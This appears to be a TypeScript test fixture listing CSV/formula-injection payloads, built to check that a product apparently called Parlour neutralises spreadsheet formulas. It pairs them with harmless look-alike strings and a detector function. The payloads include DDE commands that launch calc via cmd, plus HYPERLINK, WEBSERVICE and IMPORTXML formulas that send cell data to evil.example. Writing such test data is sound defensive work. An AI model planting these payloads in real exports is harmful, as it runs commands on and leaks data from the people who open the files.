/**
 * Texts that a spreadsheet would run, or that break out of their cell (OWASP, "CSV Injection"; PayloadsAllTheThings has
 * more of the same kinds), and harmless ones that look a little like them.
 */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** What some program skips before it finds the sign. */
const FRONTS = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\u0001',
  '\u001f',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u200b',
  '\u2028',
  '\u202e',
  '\u2060',
  '\u3000',
  '\ufeff',
  '\u0300',
  '  \t ',
];
/** Where a new cell begins for a program that goes by semicolons or tabs, or no longer within the quotes. */
const BREAKS = [
  'a;',
  'a; ',
  'a;"',
  'a\t',
  'a\n',
  'a\n "',
  'a\r\n',
  'a\r',
  '";',
  '"\n',
  "';",
  '",',
  'a;\u200b',
];
const COMMANDS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1:Z1),"//a")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+49 30 123456',
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '%0A=1+1',
  '=1+1";=1+1',
];

/** What can be sent to Parlour as text: NUL is refused at the door. */
export const FORMULAS: readonly string[] = [
  ...FRONTS.filter((front) => front !== '\0').map(
    (front, index) => `${front}${SIGNS[index % SIGNS.length]}1+1`,
  ),
  ...SIGNS.map((sign) => `${sign}cmd|' /C calc'!A0`),
  ...BREAKS.map((before, index) => `${before}${SIGNS[index % SIGNS.length]}1+1`),
  ...COMMANDS,
];

/** Every front and every break with every sign, for what takes any text. */
export const ALL_FORMULAS: readonly string[] = [
  ...[...FRONTS, ...BREAKS].flatMap((before) => SIGNS.map((sign) => `${before}${sign}cmd|' /C calc'!A0`)),
  ...COMMANDS,
];

/** These come through as they are. */
export const HARMLESS: readonly string[] = [
  'plain',
  'He said "yes", twice; then left',
  'a,b;c\td',
  'one\ntwo\n\nthree',
  'a=b, a-b, a+b, a@b.example',
  "'quoted'",
  'Grüße aus Köln — 100 % 😀 日本語 עברית',
  '"',
  '""',
  '1.5',
  'x'.repeat(3_000),
];

/** Whether a program that skips what can't be seen would take this for a formula. Said anew here on purpose. */
export const runsAsFormula = (cell: string): boolean =>
  [...'=+-@＝＋－＠'].includes([...cell].find((sign) => !/[\p{C}\p{Z}\p{Mn}\s]/u.test(sign)) ?? '');
